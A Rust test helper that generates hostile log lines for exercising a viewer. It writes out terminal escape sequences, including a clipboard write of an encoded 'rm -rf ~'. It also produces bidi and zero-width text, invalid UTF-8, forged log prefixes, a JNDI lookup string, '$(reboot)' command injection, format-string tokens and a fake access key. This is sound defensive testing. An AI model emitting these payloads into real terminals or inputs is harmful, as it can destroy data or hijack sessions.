//! Lines that try to harm whoever shows them: sequences for the terminal, text that runs backwards, bytes that are no
//! text, lines without an end. Each carries the mark of its run.

/// The `n`-th line, with `mark` in it.
pub(super) fn line(n: u64, mark: &str) -> Vec<u8> {
    let kinds: [(&str, &str); 22] = [
        // Clears the screen, moves the cursor, colours what follows.
        ("\u{1b}[2J\u{1b}[H", "\u{1b}[31;5m cleared your screen"),
        // Sets the window's title, and writes to the clipboard.
        ("\u{1b}]0;owned\u{7}", "\u{1b}]52;c;cm0gLXJmIH4K\u{7} took your clipboard"),
        // A device control string and a privacy message that are never closed.
        ("\u{1b}P1;2q", "\u{1b}^ and never closed"),
        // The same beginnings as single characters.
        ("\u{9b}31m", "\u{9d}0;owned\u{9c} with eight bits"),
        // Asks the terminal for an answer, which would be typed into the shell.
        ("\u{1b}[c\u{1b}[6n", "\u{1b}]11;?\u{7} what are you"),
        // Alternate screen, mouse reports, bracketed paste.
        ("\u{1b}[?1049h\u{1b}[?1000h", "\u{1b}[?2004h holds your mouse"),
        // Runs backwards, hides, joins.
        ("\u{202e}", "gnp.exe\u{202c} \u{2066}turned\u{2069}"),
        ("\u{200b}\u{2060}\u{feff}", "zero\u{200d}width\u{ad}\u{180e}"),
        ("", "Z\u{351}\u{36b}\u{343}\u{32b}a\u{34f}\u{321}l\u{321}g\u{341}o"),
        ("", "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈 ﷽ 𒐫"),
        ("", "\u{e0041}\u{e0042}\u{e007f} tagged"),
        // Overwrites what stands there.
        ("", "all is well\rALL IS LOST\u{8}\u{8}\u{8}\u{8}GONE"),
        ("\t\t", "\u{b}\u{c} tabs\tand\tfeeds\u{85}\u{2028}\u{2029}"),
        ("\0", "nul\0bytes\0"),
        // Looks like somebody else's line.
        ("<0> 2038-01-19 03:14:08.000 +00:00 [FTL] - ", ""),
        ("2001-01-01T00:00:00.000000000Z ", "with a stamp of its own"),
        ("<3>", ""),
        ("<٣> ", "a digit of another script"),
        ("{\"text\":\"", "\",\"loglevel\":0}]}"),
        ("", "${jndi:ldap://x} %s%n%x $(reboot) `reboot` <script>"),
        ("", "HostName=h.example;SharedAccessKey=c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0cw=="),
        ("", ""),
    ];
    let count = u64::try_from(kinds.len()).unwrap_or(1) + 2;
    let kind = n % count;
    let mut out = Vec::new();
    match usize::try_from(kind).ok().and_then(|kind| kinds.get(kind)) {
        Some((before, after)) => {
            out.extend_from_slice(before.as_bytes());
            out.extend_from_slice(mark.as_bytes());
            out.push(b' ');
            out.extend_from_slice(after.as_bytes());
        }
        // No text: broken, overlong and lone halves.
        None if kind + 2 == count => {
            out.extend_from_slice(mark.as_bytes());
            out.extend_from_slice(b" \xff\xfe \xc0\x80 \xed\xa0\x80 \xf4\x90\x80\x80 \xe2\x82");
        }
        // Longer than a record of the log, and than any screen.
        None => {
            out.extend_from_slice(mark.as_bytes());
            out.push(b' ');
            out.extend("endless ".bytes().cycle().take(100_000));
        }
    }
    out
}
